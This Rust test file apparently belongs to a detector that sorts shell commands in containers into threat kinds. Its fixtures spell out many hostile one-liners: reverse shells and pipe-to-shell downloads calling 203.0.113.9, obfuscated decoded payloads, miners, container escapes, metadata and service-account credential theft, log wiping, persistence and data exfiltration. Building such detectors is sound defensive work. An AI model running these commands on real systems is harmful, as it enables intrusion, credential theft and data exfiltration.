use super::super::{is_miner_image, is_offensive_image};
use super::{Kind, all_have, kinds};

#[test]
fn harmless_commands_have_no_signs() {
    for line in [
        "curl -s http://localhost/healthz",
        "sh ;; -c ;; pg_isready -U postgres -h 127.0.0.1",
        "tail ;; -n ;; 100 ;; /var/log/app.log",
        "base64 /tmp/x",
        "echo aGVsbG8= | base64 -d",
        "echo $PASSWORD | base64 -d > /etc/app/password",
        "tar czf /backup/data.tgz /data",
        "tar czf - /data | aws s3 cp - s3://bucket/data.tgz",
        "curl -sL https://example.com/app.tgz | tar xz -C /opt",
        "wget -q -O- http://db:8080/ready",
        "wget --spider -q http://localhost:3000/",
        "nc -z db 5432",
        "until nc -z db 5432; do sleep 1; done",
        "timeout 1 bash -c '</dev/tcp/db/5432'",
        "(echo > /dev/tcp/127.0.0.1/9092) >/dev/null 2>&1",
        "until printf '' 2>>/dev/null >>/dev/tcp/kafka/9092; do sleep 1; done",
        "exec 3<>/dev/tcp/127.0.0.1/8080; printf 'GET /health HTTP/1.0\\r\\n\\r\\n' >&3; cat <&3",
        "echo ruok | nc localhost 2181",
        "echo 'shop.orders 1' | nc -w1 graphite 2003",
        "cat /tmp/metrics | curl --data-binary @- http://pushgateway:9091/metrics/job/x",
        "redis-cli ping",
        "psql -c 'select 1'",
        "mysqldump --all-databases | gzip > /backup/all.sql.gz",
        "pg_dump app",
        "curl -s http://api/items | python3 -m json.tool",
        "curl -s http://api/items | python -c 'import json,sys; print(json.load(sys.stdin))'",
        "curl -s http://api/items | jq -r '.[] | .name'",
        "curl -LO https://dl.k8s.io/release/v1.33.0/bin/linux/amd64/kubectl && chmod +x kubectl && ./kubectl version",
        "curl -o /plugins/x.jar https://example.com/x.jar",
        "cat /var/run/secrets/kubernetes.io/serviceaccount/namespace",
        "cat /proc/1/status",
        "cat /etc/os-release /etc/hosts /etc/passwd",
        "ls -la /root/.ssh",
        "etcdctl --cacert=/etc/kubernetes/pki/etcd/ca.crt --key=/etc/kubernetes/pki/etcd/server.key snapshot save /b",
        "etcdctl get /registry/leases/kube-system --prefix",
        "nslookup kubernetes.default 169.254.169.254",
        "dig @169.254.169.254 example.com",
        "iptables -A OUTPUT -d 169.254.169.254 -j DROP",
        "iptables -L -n",
        "node --version",
        "python3 /app/server.py --pool 10 -a all",
        "python3 manage.py migrate",
        "java -jar app.jar --pool=main",
        "gunicorn -w 4 app:app",
        "sh /docker-entrypoint.sh",
        "bash -ec 'exec nginx -g \"daemon off;\"'",
        "sysctl -w kernel.core_pattern=/cores/core.%e",
        "echo '/cores/%e' > /proc/sys/kernel/core_pattern",
        "mount -t tmpfs tmpfs /scratch",
        "nsenter -t 4312 -n ip a",
        "chroot /opt/app ./run",
        "docker build -t app . && docker push app",
        "cdk deploy",
        "kill -HUP 1",
        "pkill nginx",
        "rm -rf /tmp/cache",
        "env",
        "date; hostname; id",
        "git clone https://github.com/example/app && cd app && make",
        "kubectl version",
        "curl -k https://kubernetes.default.svc/healthz",
        "MODE=/bin/sh",
        "echo 'curl http://203.0.113.9/x | sh'",
        "echo sh",
        "crontab -l",
        "openssl s_client -connect example.com:443 < /dev/null",
        "openssl enc -d -aes-256-cbc -in backup.enc -out backup.sql",
        "awk '{print $1}' /etc/hosts",
        "find /app -name '*.js'",
        "grep -r TODO /app",
        "",
        "|;&&()",
    ] {
        assert_eq!(kinds(line), [], "{line}");
    }
}

#[test]
fn finds_reverse_shells() {
    all_have(
        Kind::ReverseShell,
        &[
            "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
            "sh ;; -c ;; bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
            "bash -c 'sh -i >& /dev/udp/203.0.113.9/53 0>&1'",
            "exec 5<>/dev/tcp/203.0.113.9/4444; cat <&5 | while read line; do $line 2>&5 >&5; done",
            "0<&196;exec 196<>/dev/tcp/203.0.113.9/4444; sh <&196 >&196 2>&196",
            "nc -e /bin/sh 203.0.113.9 4444",
            "nc ;; 203.0.113.9 ;; 4444 ;; -e ;; /bin/bash",
            "ncat 203.0.113.9 4444 --sh-exec /bin/bash",
            "ncat --exec=/bin/sh 203.0.113.9 4444",
            "busybox nc 203.0.113.9 4444 -e sh",
            "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 203.0.113.9 4444 > /tmp/f",
            "mknod /tmp/p p; telnet 203.0.113.9 4444 0</tmp/p | /bin/sh 1>/tmp/p",
            "mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 203.0.113.9:443 > /tmp/s",
            "socat TCP:203.0.113.9:4444 EXEC:/bin/sh,pty,stderr",
            "socat exec:'bash -li',pty,stderr tcp:203.0.113.9:4444",
            "python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect((\"203.0.113.9\",4444));os.dup2(s.fileno(),0);subprocess.call([\"/bin/sh\",\"-i\"])'",
            "perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,6);open(STDIN,\">&S\");exec(\"/bin/sh -i\");'",
            "ruby -rsocket -e 'f=TCPSocket.open(\"203.0.113.9\",4444).to_i;exec sprintf(\"/bin/sh -i <&%d\",f)'",
            "php -r '$s=fsockopen(\"203.0.113.9\",4444);exec(\"/bin/sh -i <&3 >&3 2>&3\");'",
            "node -e 'require(\"child_process\");var c=new net.Socket();'",
            "awk 'BEGIN{s=\"/inet/tcp/0/203.0.113.9/4444\";}'",
            "nohup sudo -u www bash -i >& /dev/tcp/203.0.113.9/4444 &",
            "b'a'sh -i >& /dev/tcp/203.0.113.9/4444",
        ],
    );
}

#[test]
fn finds_downloads_that_are_run() {
    all_have(
        Kind::DownloadAndRun,
        &[
            "curl -fsSL http://203.0.113.9/x.sh | sh",
            "sh ;; -c ;; curl -s http://203.0.113.9/i.sh | sh",
            "wget -qO- http://203.0.113.9/x | sudo bash -s -- -y",
            "curl http://203.0.113.9/x | tee /tmp/x | python3 -",
            "bash -c \"$(curl -fsSL http://203.0.113.9/x)\"",
            "bash <(curl -s http://203.0.113.9/x)",
            "source <(wget -qO- http://203.0.113.9/x)",
            "eval \"$(curl -s http://203.0.113.9/x)\"",
            "eval `curl -s http://203.0.113.9/x`",
            "python -c \"$(curl -s http://203.0.113.9/x.py)\"",
            "bash <<< \"$(curl -s http://203.0.113.9/x)\"",
            "$(curl -s http://203.0.113.9/x)",
            "curl -o /tmp/a http://203.0.113.9/a && chmod +x /tmp/a && /tmp/a",
            "cd /tmp; wget http://203.0.113.9/run.sh; chmod 777 run.sh; ./run.sh",
            "curl -LO http://203.0.113.9/kworker; chmod +x ./kworker; nohup ./kworker &",
            "curl http://203.0.113.9/a > /tmp/.a; sh /tmp/.a",
            "wget http://203.0.113.9/a.py -O /tmp/a.py; python3 /tmp/a.py",
            "c''url -s http://203.0.113.9/x|s\\h",
            "curl${IFS}-s${IFS}http://203.0.113.9/x|sh",
            "{curl,-s,http://203.0.113.9/x}|sh",
            "$'\\x63url' http://203.0.113.9/x | sh",
            "curl http://203.0.113.9/x \\\n  | \\\n  sh",
            "env -S 'sh -c \"curl http://203.0.113.9/x | sh\"'",
            "sh -c 'sh -c \"curl http://203.0.113.9/x | sh\"'",
            "(curl -s http://203.0.113.9/x || wget -qO- http://203.0.113.9/x) | bash",
            "-c ;; curl http://203.0.113.9/x | sh",
        ],
    );
}

#[test]
fn finds_decoded_payloads() {
    all_have(
        Kind::DecodedPayload,
        &[
            "echo Y3VybA== | base64 -d | sh",
            "echo Y3VybA== | base64 --decode | bash -",
            "bash -c \"$(echo Y3VybA== | base64 -d)\"",
            "eval $(echo Y3VybA== | base64 -d)",
            "echo 6375726c | xxd -r -p | sh",
            "openssl enc -d -aes-256-cbc -k x -in p | sh",
            "echo Y3VybA== | openssl base64 -d | sh",
            "printf '\\x63\\x75' | sh",
            "echo -e '\\x63\\x75' | bash",
            "echo Y3VybA== | base64 -d > /tmp/x; sh /tmp/x",
            "python3 -c 'import base64;exec(base64.b64decode(\"Y3VybA==\"))'",
            "perl -MMIME::Base64 -e 'eval(decode_base64(\"Y3VybA==\"))'",
            "powershell -nop -enc SQBFAFgA",
        ],
    );
}

#[test]
fn finds_miners() {
    all_have(
        Kind::CryptoMiner,
        &[
            "/tmp/xmrig -o 203.0.113.9:3333",
            "./x -o stratum+tcp://pool.example:4444 -u wallet",
            "-o ;; stratum+ssl://pool.example:443 ;; -u ;; wallet",
            "--algo ;; ETCHASH ;; --pool ;; etc.pool.example:1010",
            "./kworker --donate-level 1 -o 203.0.113.9:80",
            "worker -o xmr.nanopool.org:14433 -u wallet",
            "worker -o XMR.NanoPool.org.:14433 -u wallet",
            "nohup ./lolMiner &",
            "curl -d @x https://api.moneroocean.stream/miner",
        ],
    );
    assert!(is_miner_image("docker.io/metal3d/xmrig:6.21"));
    assert!(is_miner_image("ghcr.example/lolminer:1.88"));
    assert!(!is_miner_image("minio/minio"));
    assert!(!is_miner_image("example/data-miner"));
    for other in ["notminexmr.com", "minexmr.com.example", "my-minexmr.com"] {
        assert_eq!(kinds(&format!("curl https://{other}/")), [], "{other}");
    }
}

#[test]
fn finds_escapes() {
    all_have(
        Kind::ContainerEscape,
        &[
            "nsenter -t 1 -m -u -n -i sh",
            "nsenter ;; -t ;; 1 ;; -m ;; -u ;; -i ;; -n ;; -- ;; bash",
            "nsenter --target=1 --mount -- cat /etc/hostname",
            "nsenter --mount=/proc/1/ns/mnt -- bash",
            "nsenter -at1 sh",
            "chroot /host",
            "chroot /host/ bash -c 'id'",
            "mkdir /m && mount /dev/sda1 /m",
            "mount -t cgroup -o rdma cgroup /tmp/c",
            "echo /x > /tmp/c/release_agent",
            "echo '|/tmp/x' > /proc/sys/kernel/core_pattern",
            "sysctl -w kernel.core_pattern='|/tmp/x'",
            "curl --unix-socket /var/run/docker.sock http://localhost/containers/json",
            "docker -H unix:///var/run/docker.sock ps",
            "docker run --privileged -v /:/host alpine",
            "ctr -a /run/containerd/containerd.sock containers ls",
            "crictl -r unix:///run/crio/crio.sock ps",
            "unshare -UrmC bash",
            "debugfs /dev/sda1",
            "insmod /tmp/x.ko",
            "curl -sk https://10.0.1.7:10250/run/shop/web/app -d cmd=id",
        ],
    );
    // The command that runs on the node is classified too.
    assert!(kinds("nsenter -t 1 -m sh -c 'cat /etc/shadow'").contains(&Kind::SensitiveFile));
}

#[test]
fn finds_requests_to_metadata_services() {
    all_have(
        Kind::InstanceMetadata,
        &[
            "curl http://169.254.169.254/latest/meta-data/",
            "curl -X PUT http://169.254.169.254/latest/api/token",
            "wget -qO- http://metadata.google.internal/computeMetadata/v1/instance/name",
            "curl http://2852039166/latest/meta-data/",
            "curl http://[fd00:ec2::254]/latest/meta-data/",
            "curl http://100.100.100.200/latest/meta-data/",
            "exec 3<>/dev/tcp/169.254.169.254/80",
            "python3 -c 'import urllib.request as u; u.urlopen(\"http://169.254.169.254/\")'",
        ],
    );
    all_have(
        Kind::MetadataCredentials,
        &[
            "curl http://169.254.169.254/latest/meta-data/iam/security-credentials/node",
            "curl -H 'Metadata-Flavor: Google' http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token",
            "curl 169.254.170.2$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI",
            "curl -H Metadata:true 'http://169.254.169.254/metadata/identity/oauth2/token?resource=x'",
            "curl http://169.254.170.23/v1/credentials",
        ],
    );
}

#[test]
fn finds_files_with_credentials() {
    all_have(
        Kind::ServiceAccountToken,
        &[
            "cat /var/run/secrets/kubernetes.io/serviceaccount/token",
            "cat ;; /run/secrets/kubernetes.io/serviceaccount/token",
            "TOKEN=$(cat /var/run/secrets/kubernetes.io/serviceaccount/token)",
            "curl -H \"Authorization: Bearer $(cat /var/run/secrets/kubernetes.io/serviceaccount/token)\" https://x",
            "cd /var/run/secrets/kubernetes.io/serviceaccount; cat *",
            "echo $(</var/run/secrets/kubernetes.io/serviceaccount/token)",
        ],
    );
    all_have(
        Kind::SensitiveFile,
        &[
            "cat /etc/shadow",
            "cat /host/etc/shadow",
            "head -1 /root/.ssh/id_rsa",
            "base64 /etc/kubernetes/admin.conf",
            "tar cf - /etc/kubernetes/pki",
            "cat ~/.aws/credentials",
            "curl -F f=@/root/.kube/config http://203.0.113.9",
            "while read l; do echo $l; done < /etc/shadow",
            "python3 -c 'print(open(\"/etc/shadow\").read())'",
            "find / -name id_rsa",
            "etcdctl --key=/x.key get /registry/secrets/shop/db",
            "ETCDCTL_API=3 etcdctl get / --prefix --keys-only",
            "grep -rn 'PRIVATE KEY' /",
            "cat /e't'c/sha''dow",
        ],
    );
    all_have(
        Kind::ProcessEnvironment,
        &["cat /proc/1/environ", "tr '\\0' '\\n' < /proc/self/environ"],
    );
}

#[test]
fn finds_tools_and_clients() {
    all_have(
        Kind::OffensiveTool,
        &[
            "./amicontained",
            "./cdk evaluate --full",
            "peirates",
            "bash linpeas.sh; ./linpeas.sh",
        ],
    );
    all_have(Kind::NetworkScan, &["nmap -sS 10.0.0.0/8"]);
    all_have(
        Kind::KubernetesClient,
        &[
            "kubectl get secrets -A",
            "curl -sk https://kubernetes.default.svc/api/v1/secrets",
            "curl -k https://$KUBERNETES_SERVICE_HOST/api",
        ],
    );
    all_have(
        Kind::PackageInstalled,
        &[
            "apt-get install -y nmap",
            "apk add --no-cache curl",
            "apt update && apt install -y gcc",
        ],
    );
    assert!(is_offensive_image("kalilinux/kali-rolling"));
    assert!(is_offensive_image("aquasec/kube-hunter:0.6"));
    assert!(!is_offensive_image("nicolaka/netshoot"));
}

#[test]
fn finds_evasion_and_persistence() {
    all_have(
        Kind::DefenseEvasion,
        &[
            "history -c",
            "unset HISTFILE",
            "export HISTFILE=/dev/null",
            "HISTFILE=/dev/null",
            "iptables -F",
            "pkill -9 falco",
            "systemctl stop auditd",
            "rm -f /root/.bash_history",
            "> /var/log/wtmp",
            "setenforce 0",
        ],
    );
    all_have(
        Kind::Persistence,
        &[
            "(crontab -l; echo '* * * * * x') | crontab -",
            "echo '* * * * * root x' >> /etc/crontab",
            "echo ssh-ed25519 >> /root/.ssh/authorized_keys",
            "echo x | tee -a /host/root/.ssh/authorized_keys",
            "useradd -o -u 0 x",
            "cp pod.yaml /host/etc/kubernetes/manifests/",
        ],
    );
}

#[test]
fn finds_data_that_is_sent() {
    all_have(
        Kind::DataSent,
        &[
            "tcpdump -i any -w - | nc 203.0.113.9 9000",
            "tar czf - /data | ncat 203.0.113.9 9000",
            "env | base64 | curl -d @- http://203.0.113.9/",
            "mysqldump --all-databases | gzip | curl -T - http://203.0.113.9/x",
            "cat /data/db.sqlite > /dev/tcp/203.0.113.9/9000",
            "nc 203.0.113.9 9000 < /data/db.sqlite",
            "wget -q \"http://203.0.113.9/?t=$(cat /data/key | base64 -w0)\"",
        ],
    );
}

#[test]
fn finds_copies() {
    all_have(
        Kind::CopyOut,
        &[
            "tar cf - /data/base",
            "tar ;; cf ;; - ;; /data",
            "tar -czf - /data",
            "sh ;; -c ;; tar cf - /data | tail -c+1025",
            "tar --create --file=- /data",
        ],
    );
    all_have(
        Kind::CopyIn,
        &[
            "tar -xmf - -C /tmp",
            "tar ;; xf ;; - ;; -C ;; /",
            "tar ;; -xmf ;; - ;; --no-same-owner",
        ],
    );
}
